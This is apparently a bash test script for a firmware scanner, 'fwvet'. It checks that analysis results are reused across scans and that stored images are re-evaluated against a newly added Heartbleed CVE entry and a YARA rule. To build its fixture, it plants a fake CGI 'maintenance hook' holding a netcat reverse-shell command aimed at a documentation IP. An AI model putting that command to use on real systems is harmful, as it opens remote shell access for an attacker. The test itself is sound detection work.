#!/bin/bash
# The store over time: a second scan of a known image reuses the analysis
# results of its contents (the same report, nothing analysed again); fwvet
# monitor re-evaluates stored images against today's rules and data —
# a newly published CVE without unpacking, a new intel rule by unpacking
# again with the other analyzers' results reused — reports only what is new
# since the last evaluation, and says which images it could not evaluate.
. "${FV_SRCDIR:?run through meson test}/tests/lib.sh"

command -v sqlite3 > /dev/null || fail "needs the sqlite3 program (scripts/deps.sh installs it)"
cd "$FV_WORK"

# Rules as they were before Heartbleed was published: the curated OpenSSL data without it.
RULES=$FV_WORK/rules
cp -r "$FV_SRCDIR/rules" "$RULES"
grep -v '^CVE-2014-0160 ' "$FV_SRCDIR/rules/vulns/openssl.txt" > "$RULES/vulns/openssl.txt"
export FWVET_RULES=$RULES
DB=$FV_WORK/m.db
noise() { head -c "$1" /dev/zero | tr '\0' '\001'; }

make_rootfs root
{ noise 64; printf '\0OpenSSL 1.0.1f 6 Jan 2014\0'; noise 64; } > root/usr/lib/libcrypto.so.1.0.0
printf '#!/bin/sh\n# maintenance hook x-vendor-debug-7731\nnc 203.0.113.7 4444 -e /bin/sh\n' > root/www/cgi-bin/diag
chmod 755 root/www/cgi-bin/diag
mksquashfs root fw.sqfs -comp xz -all-root -noappend -quiet -no-progress > /dev/null

run() { # RC MESSAGE COMMAND...: stdout in out.txt, stderr in err.txt
	local want=$1 msg=$2 rc=0
	shift 2
	"$@" > out.txt 2> err.txt || rc=$?
	[ "$rc" = "$want" ] || { cat err.txt >&2; fail "$msg: expected exit $want, got $rc"; }
	ok "$msg (exit $rc)"
}

# ---- reuse: a known image costs no analysis ------------------------------------
run 0 "first scan" "$FWVET" -v scan --db "$DB" --vulndb none --format json -o first.json fw.sqfs
grep -q "analyses reused, [1-9][0-9]* made" err.txt && ok "first scan: analyses made" \
	|| fail "first scan: $(cat err.txt)"
run 0 "second scan of the same image" "$FWVET" -v scan --db "$DB" --vulndb none --format json -o second.json fw.sqfs
grep -q "([1-9][0-9]* analyses reused, 0 made)" err.txt && ok "second scan: every analysis reused" \
	|| fail "second scan: $(cat err.txt)"
strip() { jq -S 'del(.summary.elapsed_ms, .scan)' "$1"; }
if diff <(strip first.json) <(strip second.json) >&2; then
	ok "second scan: the same report as the first"
else
	fail "second scan: the report differs from the first"
fi
jq -e '[.findings[] | select(.path | endswith("/www/cgi-bin/diag"))] | length > 0' second.json > /dev/null \
	&& ok "second scan: the CGI's reverse shell comes back from the store" || fail "second scan lost the CGI's findings"
analyses=$(sqlite3 "$DB" 'SELECT count(*) FROM analyses')
[ "$analyses" -gt 0 ] && ok "$analyses analysis results stored by content" || fail "no analysis results stored"

# An update that changes one file: only that content is analysed.
cp -a root root2
printf 'extra\n' >> root2/etc/banner
mksquashfs root2 fw2.sqfs -comp xz -all-root -noappend -quiet -no-progress > /dev/null
run 0 "scan of an update" "$FWVET" -v scan --db "$DB" --vulndb none -o /dev/null fw2.sqfs
made=$(sed -n 's/.*analyses reused, \([0-9]*\) made.*/\1/p' err.txt)
[ -n "$made" ] && [ "$made" -gt 0 ] && [ "$made" -le 6 ] && ok "update: only the new content analysed ($made analyses)" \
	|| fail "update: expected a few analyses for one new file, got [$made]: $(cat err.txt)"

# ---- monitor: nothing changed ---------------------------------------------------
run 0 "monitor with nothing changed" "$FWVET" monitor --db "$DB" --vulndb none --format json
cp out.txt m0.json
R=m0.json
check "monitor: both images, the newest scan of each" '.summary.images == 2 and (.images | length) == 2'
check "monitor: all current" 'all(.images[]; .status == "current" and .new_scan == null)'

# ---- a CVE is published: supply alone, from the stored copies -------------------
cp "$FV_SRCDIR/rules/vulns/openssl.txt" "$RULES/vulns/openssl.txt"
mv fw.sqfs fw.sqfs.away   # the files are not needed for this
run 1 "monitor after a new CVE: exit 1" "$FWVET" monitor --db "$DB" --vulndb none --format json 2 3
cp out.txt m1.json
R=m1.json
check "new CVE: re-evaluated from the store, only supply's inputs changed" \
	'all(.images[]; .status == "re-evaluated" and .changed_inputs == ["supply"] and .not_evaluated == [])'
check "new CVE: Heartbleed is new, known exploited" \
	'all(.images[]; [.new_vulnerabilities[] | select(.id == "CVE-2014-0160" and .kev and .component == "openssl")] | length == 1)'
check "new CVE: only Heartbleed is new" 'all(.images[]; (.new_vulnerabilities | length) == 1)'
check "new CVE: its finding is new, nothing resolved" \
	'all(.images[]; (.new_findings | map(.rule) | unique) == ["FV-VULN-001"] and .resolved_findings == [])'
check "new CVE: stored as a new scan" 'all(.images[]; .new_scan != null)'
for id in $(jq -r '.images[].new_scan' m1.json); do
	"$FWVET" db show --db "$DB" "$id" > shown.json
	R=shown.json
	check "scan $id: Heartbleed stored" '[.vulnerabilities[] | select(.id == "CVE-2014-0160")] | length == 1'
	check "scan $id: the other findings kept (the CGI's)" \
		'[.findings[] | select(.path | endswith("/www/cgi-bin/diag"))] | length > 0'
done
run 0 "monitor again: nothing new since" "$FWVET" monitor --db "$DB" --vulndb none --format json
R=out.txt
check "monitor again: all current" 'all(.images[]; .status == "current")'

# ---- a new intel rule: backdoor runs again on the unpacked files, the rest reused ----
mkdir -p intel
cat > intel/vendor.yar <<'EOF'
rule vendor_debug_hook
{
    meta:
        id = "FV-TEST-001"
        severity = "high"
        confidence = "high"
        description = "the vendor's debug hook"
    strings:
        $a = "x-vendor-debug-7731"
    condition:
        $a
}
EOF
mv fw.sqfs.away fw.sqfs
mv fw2.sqfs fw2.sqfs.away
run 1 "monitor with a new intel rule" "$FWVET" -v monitor --db "$DB" --vulndb none --rules intel --format json
cp out.txt m2.json
R=m2.json
check "new rule: fw.sqfs unpacked again" '.images[] | select(.image.path == "fw.sqfs") | .status == "rescanned"'
check "new rule: backdoor's inputs changed" \
	'.images[] | select(.image.path == "fw.sqfs") | .changed_inputs | index("backdoor") != null'
check "new rule: its hit is new" \
	'.images[] | select(.image.path == "fw.sqfs") | [.new_findings[] | select(.rule == "FV-TEST-001" and (.path | endswith("/www/cgi-bin/diag")))] | length == 1'
check "new rule: fw2.sqfs, moved away, is stale and says what was not evaluated" \
	'.images[] | select(.image.path == "fw2.sqfs") | .status == "stale" and (.not_evaluated | index("backdoor") != null) and (.message | test("no longer at"))'
grep -q "analyses reused" err.txt && ok "new rule: the rescan reused stored analyses" || fail "new rule: $(cat err.txt)"
reused=$(sed -n 's/.*(\([0-9]*\) analyses reused.*/\1/p' err.txt | head -1)
[ "${reused:-0}" -gt 0 ] && ok "new rule: $reused analyses of unchanged analyzers reused" || fail "new rule: nothing reused"

# ---- errors ------------------------------------------------------------------------
run 2 "monitor of a missing scan id" "$FWVET" monitor --db "$DB" --vulndb none 9999
grep -q "no scan 9999" err.txt && ok "missing id: says so" || fail "missing id: $(cat err.txt)"
run 2 "monitor of a store that does not exist" "$FWVET" monitor --db "$FV_WORK/none.db"
[ ! -e "$FV_WORK/none.db" ] && ok "monitor makes no store" || fail "monitor made a store"

finish
